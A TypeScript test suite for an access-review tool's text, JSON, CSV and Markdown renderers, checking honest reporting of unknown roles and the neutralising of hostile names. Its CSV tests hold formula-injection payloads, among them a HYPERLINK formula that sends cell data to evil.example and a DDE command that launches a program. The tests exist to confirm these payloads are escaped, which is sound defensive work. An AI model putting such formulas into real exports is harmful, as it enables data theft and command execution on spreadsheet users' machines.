import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { reviewAccess } from '../../src/access/review.js';
import type { AccessState } from '../../src/access/state.js';
import type { Evidence } from '../../src/model/explanation.js';
import type { Ref } from '../../src/model/ref.js';
import { renderReviewCsv } from '../../src/render/review-csv.js';
import { renderReviewJson } from '../../src/render/review-json.js';
import { renderReviewMarkdown, renderReviewText } from '../../src/render/review-table.js';
import {
  AS_OF,
  credential,
  entry,
  group,
  LATER,
  object,
  SOON,
  share,
  stateWith,
  studio,
  user,
} from '../access/world.js';
import { HOSTILE } from './plans.js';

const golden = (name: string): string => `../golden/render/${name}`;
const plain = { color: false } as const;
const ACTING = /[\0-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

const evidence: Evidence = {
  target: {
    name: 'production',
    url: 'https://gallery.test/webapi/',
    release: { value: '2025.2', source: 'declared' },
    authentication: 'built-in',
  },
  takenAt: AS_OF,
  asOf: AS_OF,
  defaultRole: null,
  gaps: [],
  names: [],
};

const sid: Ref = { kind: 'directoryGroup', path: ['S-1-5-21-9'] };
const state = stateWith(
  [
    object(
      'user',
      'ana.ruiz@acme.example',
      { role: 'Artisan', studio: studio('Finance'), 'permissions.apiAccess': true, 'permissions.scheduleJobs': true },
      { facts: { lastLogin: '2026-06-01T08:00:00Z' } },
    ),
    object('user', 'cyd@acme.example', { role: 'Curator', 'permissions.apiAccess': true }),
    object('user', 'gone@acme.example', { role: 'Artisan' }, { state: 'deactivated' }),
    object('user', 'locked@acme.example', { role: 'Member', locked: true }),
    object('user', 'new@acme.example', { role: 'Default' }),
    object('user', 'omar@acme.example', { role: 'Default' }),
    object('group', 'Readers, all', {
      role: 'Member',
      members: [entry(user('omar@acme.example'))],
      directoryGroups: [entry(sid, { name: 'ACME\\ALL' })],
    }),
    object('group', 'Project', { role: 'Default', members: [entry(user('omar@acme.example'), { until: LATER })] }),
    object('collection', 'Close', {
      owner: user('ana.ruiz@acme.example'),
      shares: [share(user('omar@acme.example'), ['update-assets'], SOON), share(group('Readers, all'))],
    }),
    object('credential', 'acme\\svc', { shares: [entry(group('Readers, all'))] }),
    object('studio', 'Finance', { defaultCredential: credential('acme\\svc') }),
  ],
  { defaultRole: null },
);

/** A reader of CSV written from RFC 4180 alone. */
function readCsv(text: string): string[][] {
  const lines: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] ?? '';
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else quoted = false;
    } else if (character === '"' && cell === '') quoted = true;
    else if (character === ',') {
      cells.push(cell);
      cell = '';
    } else if (character === '\r' && text[at + 1] === '\n') {
      lines.push([...cells, cell]);
      cells = [];
      cell = '';
      at += 1;
    } else cell += character;
  }
  expect(quoted || cell !== '' || cells.length > 0).toBe(false);
  return lines;
}

function csvOf(name: string): string[][] {
  return readCsv(renderReviewCsv(reviewAccess(stateWith([object('user', name, { role: 'Member' })]), {}), evidence));
}

describe('a review', () => {
  it('is a table with a line a person, and says what it does not know', async () => {
    await expect(renderReviewText(reviewAccess(state, {}), evidence, plain)).toMatchFileSnapshot(golden('review.txt'));
  });

  it('says how many of how many a filter left', () => {
    const text = renderReviewText(reviewAccess(state, { inactive: true }), evidence, plain);
    expect(text).toMatch(/gone@acme.example +deactivated\nlocked@acme.example +locked\n\n2 of 6 people\n/);
  });

  it('keeps those for whom a role cannot be told, and says so', () => {
    const text = renderReviewText(reviewAccess(state, { role: 'Curator' }), evidence, plain);
    expect(text).toMatch(/cyd@acme.example +Curator \(own\)/);
    expect(text).toMatch(/new@acme.example +not known \(default\)/);
    expect(text).toContain('the role of 1 person rests on the default role, which nobody attested');
  });

  it('lists what ends, the first first, with those who lose something', async () => {
    const told = reviewAccess(state, { endingBefore: '2027-06-01T00:00:00Z' });
    const text = renderReviewText(told, evidence, plain);
    await expect(text).toMatchFileSnapshot(golden('review-expiring.txt'));
    const nothing = renderReviewText(reviewAccess(state, { endingBefore: AS_OF }), evidence, plain);
    expect(nothing).toMatch(/0 of 6 people\n\nEnds before 2026-06-15 \(0\)\n +nothing\n/);
  });

  it('is the same in JSON, CSV and Markdown', async () => {
    const told = reviewAccess(state, { endingBefore: '2027-06-01T00:00:00Z' });
    const json = renderReviewJson(told, evidence);
    expect(JSON.parse(json)).toMatchObject({ format: 'gallerist.review/v1', people: 6 });
    await expect(json).toMatchFileSnapshot(golden('review-expiring.json'));
    await expect(renderReviewCsv(reviewAccess(state, {}), evidence)).toMatchFileSnapshot(golden('review.csv'));
    await expect(renderReviewMarkdown(reviewAccess(state, {}), evidence)).toMatchFileSnapshot(golden('review.md'));
  });

  it('says the same with colour as without', () => {
    const colored = renderReviewText(reviewAccess(state, {}), evidence, { color: true });
    expect(colored).toContain('\x1b[');
    expect(colored.replace(/\x1b\[\d+m/g, '')).toBe(renderReviewText(reviewAccess(state, {}), evidence, plain));
  });

  it('keeps hostile names harmless in text, JSON, CSV and Markdown', () => {
    for (const name of HOSTILE) {
      const hostile: AccessState = stateWith([
        object('user', name, { role: 'Default', studio: studio(name) }),
        object('group', name, { role: 'Artisan', members: [entry(user(name))] }),
        object('collection', name, { owner: user(name), shares: [share(group(name), [], SOON)] }),
        object('studio', name, { defaultCredential: null }),
      ]);
      const told = { ...reviewAccess(hostile, {}), expiring: reviewAccess(hostile, { endingBefore: LATER }).expiring };
      const texts = [
        renderReviewText(told, evidence, plain),
        renderReviewJson(told, evidence),
        renderReviewCsv(told, evidence).replaceAll('\r\n', '\n'),
        renderReviewMarkdown(told, evidence),
      ];
      for (const text of texts) expect(text).not.toMatch(ACTING);
      expect(renderReviewCsv(told, evidence).split('\r\n')).toHaveLength(3);
      // Every line of the table has the same number of cells: no name ends one.
      const rows = (texts[3] ?? '').split('\n').filter((line) => line.startsWith('|'));
      expect(new Set(rows.map((line) => line.split('|').length)).size).toBe(1);
    }
  });
});

describe('what the default role decides, where nobody attested it', () => {
  const unsure = reviewAccess(
    stateWith(
      [
        object('user', 'ana', { role: 'Default', 'permissions.apiAccess': true }),
        object('collection', 'Close', { owner: user('ana') }),
        object('credential', 'acme\\svc', { shares: [entry(user('ana'))] }),
      ],
      { defaultRole: null },
    ),
    {},
  );

  it('is never an empty cell, a zero or a no: in the table, in CSV, in JSON', () => {
    const [row] = renderReviewText(unsure, evidence, plain)
      .split('\n')
      .filter((line) => line.startsWith('ana'));
    expect(row?.split(/ {2,}/)).toEqual([
      'ana',
      'not known (default)',
      'apiAccess',
      'not known',
      'not known',
      'not known',
    ]);
    const [header = [], cells = []] = readCsv(renderReviewCsv(unsure, evidence));
    const csv = Object.fromEntries(header.map((name, index) => [name, cells[index]]));
    expect(csv).toMatchObject({ role: '', adminApi: 'unknown', collections: 'unknown', credentials: 'unknown' });
    expect(JSON.parse(renderReviewJson(unsure, evidence)).rows[0]).toMatchObject({
      role: null,
      adminApi: null,
      collections: null,
      credentials: null,
    });
  });
});

describe('CSV (RFC 4180)', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\uff1d1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('makes text of a name that a spreadsheet would take for a formula: %j', (name) => {
    const cell = csvOf(name)[1]?.[0] ?? '';
    expect(cell.startsWith("'")).toBe(true);
    expect(cell).not.toMatch(/[\t\r\n]/);
  });

  it.each(['ana@acme.example', 'a"b', 'a,b', 'a;b', 'Grün', '1=1', "O'Hara"])(
    'leaves other names as they are: %j',
    (name) => {
      expect(csvOf(name)[1]?.[0]).toBe(name);
    },
  );

  it('reads back with as many cells in every line, whatever the names, and no cell begins a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }), (name) => {
        const lines = csvOf(name);
        expect(lines).toHaveLength(2);
        expect(new Set(lines.map((line) => line.length)).size).toBe(1);
        for (const cell of lines[1] ?? []) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
      }),
    );
  });
});
